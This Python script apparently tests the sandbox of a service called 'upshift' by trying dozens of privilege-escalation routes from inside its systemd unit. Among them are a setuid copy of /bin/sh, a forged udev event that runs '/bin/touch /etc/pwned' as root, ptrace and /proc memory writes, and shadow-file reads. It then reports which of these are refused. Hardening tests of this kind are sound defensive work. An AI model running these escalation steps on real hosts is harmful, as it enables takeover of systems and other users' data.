"""Ways to root, and to other users' files: run on a host as user upshift with a unit's rights.

    python3 attacks.py OUTSIDE ROOTS

OUTSIDE is a process of the same user outside of the unit, ROOTS one of root. Prints JSON: way -> what it got, or why
not. Standard library only.
"""

from __future__ import annotations

import ctypes
import fcntl
import json
import os
import platform
import signal
import socket
import stat
import struct
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

LIBC = ctypes.CDLL(None, use_errno=True)
OWN = Path("/var/lib/upshift/.state/own")
NUMBERS = {
    "x86_64": {"bpf": 321, "perf": 298, "open_tree": 428, "fsopen": 430, "keyctl": 250, "uring": 425, "handle": 304},
    "aarch64": {"bpf": 280, "perf": 241, "open_tree": 428, "fsopen": 430, "keyctl": 219, "uring": 425, "handle": 265},
}[platform.machine()]
OUTSIDE, ROOTS = sys.argv[1:3]
NEWNS, NEWUSER, NEWPID = 0x20000, 0x10000000, 0x20000000
MS_BIND, MS_REMOUNT, MS_REC = 4096, 32, 16384


def call(result: int) -> str:
    """The result of a system call. Raises OSError."""
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return f"returned {result}"


def mount(source: str, target: str, kind: str, flags: int) -> str:
    return call(LIBC.mount(source.encode(), target.encode(), kind.encode(), flags, None))


def program(*argv: str) -> str:
    """What a program does. Raises OSError if it fails."""
    done = subprocess.run(argv, capture_output=True, text=True, timeout=20, check=False, stdin=subprocess.DEVNULL)
    if done.returncode:
        raise OSError(done.returncode, (done.stderr or done.stdout).strip()[-200:])
    return done.stdout


def read(path: str) -> str:
    return repr(Path(path).read_bytes()[:40])


def write(path: str) -> str:
    with Path(path).open("ab") as handle:
        handle.write(b"")
    return "opened for writing"


def listed(path: str) -> str:
    """Names in a folder. Raises OSError where there are none."""
    if names := [each.name for each in Path(path).iterdir()]:
        return str(names)
    raise OSError(0, "it is empty")


def set_user_bit() -> str:
    copy = OWN / "shell"
    copy.write_bytes(Path("/bin/sh").read_bytes())
    copy.chmod(stat.S_ISUID | 0o755)
    return oct(copy.stat().st_mode)


def move_link() -> str:
    """A link where root writes a campaign's files."""
    Path("/var/lib/upshift/week").rename("/var/lib/upshift/old")
    return "renamed"


def look_at_others() -> str:
    """Processes of other users."""
    seen = []
    for path in Path("/proc").glob("[0-9]*"):
        try:
            if path.stat().st_uid != os.getuid():
                seen.append(path.name)
        except OSError:
            continue
    if seen:
        return str(seen)
    raise OSError(0, "none is seen")


def send_device_event() -> str:
    """As the kernel would: udev runs REMOVE_CMD as root."""
    event = b"remove@/devices/virtual/mem/null\0ACTION=remove\0SUBSYSTEM=mem\0DEVPATH=/devices/virtual/mem/null\0"
    event += b"REMOVE_CMD=/bin/touch /etc/pwned\0"
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 15) as handle:
        handle.sendto(struct.pack("=IHHII", 16 + len(event), 16, 1, 1, 0) + event, (0, 0))
    return "sent"


def open_by_handle() -> str:
    """The file handle of the root folder: as CAP_DAC_READ_SEARCH may."""
    folder = os.open("/", os.O_RDONLY)
    handle = ctypes.create_string_buffer(struct.pack("=Ii", 8, 1) + bytes(128))
    return call(LIBC.syscall(NUMBERS["handle"], folder, handle, os.O_RDONLY))


def ask_xfs() -> str:
    fcntl.ioctl(os.open("/", os.O_RDONLY), 0x4030586B, bytes(48))
    return "answered"


def become() -> str:
    os.setuid(0)
    return "is root"


def ptrace(process: str) -> str:
    return call(LIBC.ptrace(16, int(process), 0, 0))


def hosts_signal() -> str:
    os.kill(int(ROOTS), signal.SIGCONT)
    return "sent"


def bus(path: str) -> str:
    with socket.socket(socket.AF_UNIX) as handle:
        handle.connect(path)
    return "connected"


def type_ahead() -> str:
    fcntl.ioctl(os.open("/dev/console", os.O_RDWR), 0x5412, b"x")
    return "typed"


def device() -> str:
    os.mknod(OWN / "disk", stat.S_IFBLK | 0o600, os.makedev(8, 0))
    return read(str(OWN / "disk"))


def enter(path: str, kind: int) -> str:
    return call(LIBC.setns(os.open(path, os.O_RDONLY), kind))


WAYS: dict[str, Callable[[], str]] = {
    "read shadow": lambda: read("/etc/shadow"),
    "write passwd": lambda: write("/etc/passwd"),
    "write sudoers": lambda: write("/etc/sudoers.d/own"),
    "write cron.d": lambda: write("/etc/cron.d/own"),
    "write a unit": lambda: write("/etc/systemd/system/own.service"),
    "write the campaign's environment": lambda: write("/etc/upshift/campaigns/week.env"),
    "write the record": lambda: write("/etc/upshift/provisioned.json"),
    "write the campaign": lambda: write("/var/lib/upshift/week/campaign.toml"),
    "link in the place of a campaign": move_link,
    "write the release": lambda: write("/opt/upshift/current/bin/upshift"),
    "list homes": lambda: listed("/home"),
    "read a home": lambda: read("/home/debian/.ssh/authorized_keys"),
    "read root's home": lambda: listed("/root"),
    "setuid": become,
    "sudo": lambda: program("sudo", "-n", "id"),
    "su": lambda: program("su", "-c", "id"),
    "a set-user-ID program": set_user_bit,
    "hard link": lambda: os.link("/etc/shadow", OWN / "shadow") or "linked",
    "root of process 1": lambda: listed("/proc/1/root/home"),
    "environment of process 1": lambda: read("/proc/1/environ"),
    "processes of others": look_at_others,
    "trace root's process": lambda: ptrace(ROOTS),
    "memory of root's process": lambda: write(f"/proc/{ROOTS}/mem"),
    "signal root's process": hosts_signal,
    "trace one's own outside": lambda: ptrace(OUTSIDE),
    "memory of one's own outside": lambda: write(f"/proc/{OUTSIDE}/mem"),
    "root of one's own outside": lambda: listed(f"/proc/{OUTSIDE}/root/home"),
    "files of one's own outside": lambda: listed(f"/proc/{OUTSIDE}/fd"),
    "mounts of one's own outside": lambda: enter(f"/proc/{OUTSIDE}/ns/mnt", NEWNS),
    "unmount the wall of homes": lambda: call(LIBC.umount2(b"/home", 2)),
    "unmount the wall of processes": lambda: call(LIBC.umount2(b"/proc", 2)),
    "remount for writing": lambda: mount("", "/", "", MS_REMOUNT | MS_BIND),
    "mount over etc": lambda: mount(str(OWN), "/etc", "", MS_BIND | MS_REC),
    "mount a tmpfs": lambda: mount("none", str(OWN), "tmpfs", 0),
    "open_tree": lambda: call(LIBC.syscall(NUMBERS["open_tree"], -100, b"/", 1)),
    "fsopen": lambda: call(LIBC.syscall(NUMBERS["fsopen"], b"proc", 0)),
    "chroot": lambda: os.chroot(OWN) or "changed",
    "user namespace": lambda: call(LIBC.unshare(NEWUSER)),
    "mount namespace": lambda: call(LIBC.unshare(NEWNS)),
    "PID namespace": lambda: call(LIBC.unshare(NEWPID)),
    "mounts of process 1": lambda: enter("/proc/1/ns/mnt", NEWNS),
    "bpf": lambda: call(LIBC.syscall(NUMBERS["bpf"], 0, bytes(128), 128)),
    "perf": lambda: call(LIBC.syscall(NUMBERS["perf"], bytes(128), 0, -1, -1, 0)),
    "keys": lambda: call(LIBC.syscall(NUMBERS["keyctl"], 0, -3, 0)),
    "io_uring": lambda: call(LIBC.syscall(NUMBERS["uring"], 1, bytes(256))),
    "file handle": open_by_handle,
    "XFS handle": ask_xfs,
    "device event": send_device_event,
    "core_pattern": lambda: write("/proc/sys/kernel/core_pattern"),
    "sysrq": lambda: write("/proc/sysrq-trigger"),
    "kernel log": lambda: read("/dev/kmsg"),
    "kernel memory": lambda: read("/proc/kcore"),
    "a device": device,
    "a terminal": type_ahead,
    "sys": lambda: write("/sys/kernel/uevent_helper"),
    "cgroup": lambda: Path("/sys/fs/cgroup/own").mkdir() or "made",
    "leave the cgroup": lambda: write("/sys/fs/cgroup/cgroup.procs"),
    "D-Bus": lambda: bus("/run/dbus/system_bus_socket"),
    "systemd's socket": lambda: bus("/run/systemd/private"),
    "systemd-run": lambda: program("systemd-run", "--wait", "id"),
    "systemctl": lambda: program("systemctl", "start", "nginx"),
    "clock": lambda: call(LIBC.settimeofday(struct.pack("qq", 1, 0), None)),
    "hostname": lambda: socket.sethostname("own") or "changed",
    "real-time priority": lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(10)) or "set",
}
"""Each raises OSError where it is refused."""


def rewrite_setting() -> str:
    path = Path("/proc/sys/net/ipv4/ip_forward")
    path.write_text(path.read_text())
    return "written"


def capture() -> str:
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3).close()
    return "opened"


NEEDS: dict[str, Callable[[], str]] = {
    "write results": lambda: write(str(OWN / "result")),
    "change a setting of the network": rewrite_setting,
    "make a network namespace": lambda: call(LIBC.unshare(0x40000000)),
    "capture": capture,
    "change a link": lambda: program("ip", "link", "set", "lo", "up"),
    "keep CPUs awake": lambda: write("/dev/cpu_dma_latency") if Path("/dev/cpu_dma_latency").exists() else "no device",
    "see one's own processes": lambda: read("/proc/self/environ"),
}
"""What a campaign does."""


def tried(attack: Callable[[], str]) -> str:
    """What became of it, in a process of its own, so that one does not help the next."""
    reader, writer = os.pipe()
    if os.fork() == 0:
        try:
            result = f"GOT {attack()}"
        except (OSError, subprocess.TimeoutExpired) as error:
            result = str(error)
        os.write(writer, result.encode()[:4000])
        os._exit(0)
    os.close(writer)
    with os.fdopen(reader, "rb") as answer:
        result = answer.read().decode(errors="replace")
    os.wait()
    return result or "it was killed"


if __name__ == "__main__":
    OWN.mkdir(exist_ok=True)
    print(json.dumps({way: tried(attack) for way, attack in (WAYS | NEEDS).items()}))
